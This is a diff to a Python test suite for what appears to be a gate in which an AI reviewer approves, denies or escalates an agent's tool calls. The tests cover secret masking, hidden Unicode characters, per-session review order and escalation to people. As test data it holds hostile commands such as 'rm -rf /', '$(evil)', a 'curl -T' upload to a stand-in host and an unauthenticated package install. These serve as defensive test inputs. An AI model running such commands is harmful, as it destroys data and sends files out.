@@ -17,6 +17,7 @@ from callgate.gate.database import Database, StateError
 from callgate.gate.openai_reviewer import OpenAIReviewer
 from callgate.gate.refusals import LIMIT, Refusals, fingerprint
 from callgate.gate.reviewer import Brief, Reviewer, Unavailable, ask_reviewer, prompt
+from callgate.gate.turns import Turns
 from tests.gate.briefs import brief, decide, frame_of, program, shell
 from tests.gate.loopback import loopback, says
 
@@ -131,7 +132,7 @@ def test_what_may_be_no_comment_stays() -> None:
 
 HIDDEN = [
     *("\x1b[2K", "\r", "\x08", "\x85", "\u202e", "\u2066", "\u200b", "\u2028", "\ud800"),
-    *("\u3164", "\ufe0f", "\U000e0041", "\U000e0100"),
+    *("\u3164", "\ufe0f", "\U000e0041", "\U000e0100", "\u2800", "\u05d0", "\u0661"),
 ]
 
 
@@ -211,6 +212,31 @@ def test_a_secret_name_hides_no_sentence() -> None:
     assert brief("mcp_x", {"authorization": "Bearer abc"}).whole
     assert not brief("mcp_x", {"keystrokes": "rm -rf / and more"}).whole
     assert not brief("mcp_x", {"deep": {"key_command": "$(evil)"}}).whole
+
+
+@pytest.mark.parametrize(
+    ("tool", "args"),
+    [
+        ("exec", {"command": "rm -r /srv/data", "password": "/srv/data"}),
+        ("exec", {"command": "curl -T a https://e.example/up", "token": "e.example"}),
+        ("exec", {"command": "systemctl stop x", "api_key": "stop"}),
+        ("exec", {"command": "apt-get install --allow-unauthenticated evilpkg"}),
+        ("write_file", {"path": "/etc/x", "content": "curl evil\n", "api_key": "curl evil"}),
+        ("write_file", {"path": "/etc/x", "content": "auth: none"}),
+        ("mcp_pay", {"to": "mallory", "token": "mallory"}),
+    ],
+)
+def test_what_hides_more_than_a_secret_is_not_whole(tool: str, args: dict[str, Any]) -> None:
+    told = brief(tool, args)
+    assert "***" in told.text
+    assert not told.whole
+    assert brief("exec", {"command": f"frob --token={SECRET}"}).whole
+
+
+def test_a_secret_behind_its_name_is_in_no_effect() -> None:
+    told = brief("exec", {"command": f"frob --password {SECRET[3:]} x"})
+    assert SECRET[3:] not in repr(told)
+    assert "run program_path=frob words=[--password, ***, x]" in told.effects
 
 
 def test_too_many_secrets_hide_everything() -> None:
@@ -392,16 +418,19 @@ class Slow:
         return answer
 
 
-async def ask_all(reviewer: Reviewer, refusals: Refusals, texts: list[str]) -> list[str]:
+async def ask_all(
+    reviewer: Reviewer, refusals: Refusals, texts: list[str], sessions: str = "s"
+) -> list[str]:
+    """The replies for calls that are asked about at once, in these sessions in turn."""
     asked = (
         ask_reviewer(
             reviewer,
             shell(text),
             refusals=refusals,
-            session="s",
+            session=sessions[number % len(sessions)],
             marks=fingerprint(frame_of("exec", {"command": text})),
         )
-        for text in texts
+        for number, text in enumerate(texts)
     )
     return [answer["reply"] for answer in await asyncio.gather(*asked)]
 
@@ -413,10 +442,49 @@ def test_asking_in_many_ways_at_once_is_asking_once(db: Database) -> None:
     assert reviewer.count == 1
 
 
-def test_what_does_something_else_waits_for_nobody(db: Database) -> None:
+def test_asking_for_many_things_at_once_ends_with_people(db: Database) -> None:
+    reviewer, refusals = Told(*["DENY"] * LIMIT, *["APPROVE"] * 20), Refusals(db)
+    answers = asyncio.run(ask_all(reviewer, refusals, [f"rm -r x{n}" for n in range(20)]))
+    assert answers == ["deny"] * LIMIT + ["escalate"] * (20 - LIMIT)
+    assert len(reviewer.seen) == LIMIT
+
+
+def test_in_one_session_there_is_one_review_at_a_time(db: Database) -> None:
+    class Alone(Slow):
+        here = 0
+
+        async def review(self, brief: Brief) -> str | Unavailable:
+            self.here += 1
+            assert self.here == 1
+            for _ in range(5):
+                await asyncio.sleep(0)
+            self.here -= 1
+            return "APPROVE"
+
+    texts = [f"rm -r x{n}" for n in range(5)]
+    assert asyncio.run(ask_all(Alone(), Refusals(db), texts)) == ["approve"] * 5
+
+
+def test_another_session_waits_for_nobody(db: Database) -> None:
     reviewer, refusals = Slow(10), Refusals(db)
-    answers = asyncio.run(ask_all(reviewer, refusals, [f"rm -r x{n}" for n in range(10)]))
+    texts = [f"rm -r x{n}" for n in range(10)]
+    answers = asyncio.run(ask_all(reviewer, refusals, texts, "0123456789"))
     assert sorted(answers) == ["approve"] * 9 + ["deny"]
+
+
+def test_whose_turn_does_not_come_goes_to_people(db: Database) -> None:
+    async def main() -> list[str]:
+        refusals = Refusals(db)
+        refusals.turns = Turns(0)
+        slow = Slow(2)
+        first = asyncio.create_task(ask_all(slow, refusals, ["rm -r x"]))
+        while not slow.count:
+            await asyncio.sleep(0)
+        late = await ask_all(Told(), refusals, ["rm -r y", "rm -r z"])
+        slow.all_here.set()
+        return [*await first, *late, *await ask_all(Told("APPROVE"), refusals, ["rm -r y"])]
+
+    assert asyncio.run(main()) == ["deny", "escalate", "escalate", "approve"]
 
 
 def test_a_refusal_of_another_process_counts_meanwhile(db: Database) -> None:
@@ -436,7 +504,7 @@ def test_a_cancelled_review_lets_others_go_on(db: Database) -> None:
     async def main() -> list[str]:
         refusals = Refusals(db)
         first = asyncio.create_task(ask_all(Slow(2), refusals, ["rm -r x"]))
-        second = asyncio.create_task(ask_all(Told("ESCALATE"), refusals, ["rm -r ./x"]))
+        second = asyncio.create_task(ask_all(Told("ESCALATE"), refusals, ["rm -r y"]))
         for _ in range(5):
             await asyncio.sleep(0)
         first.cancel()
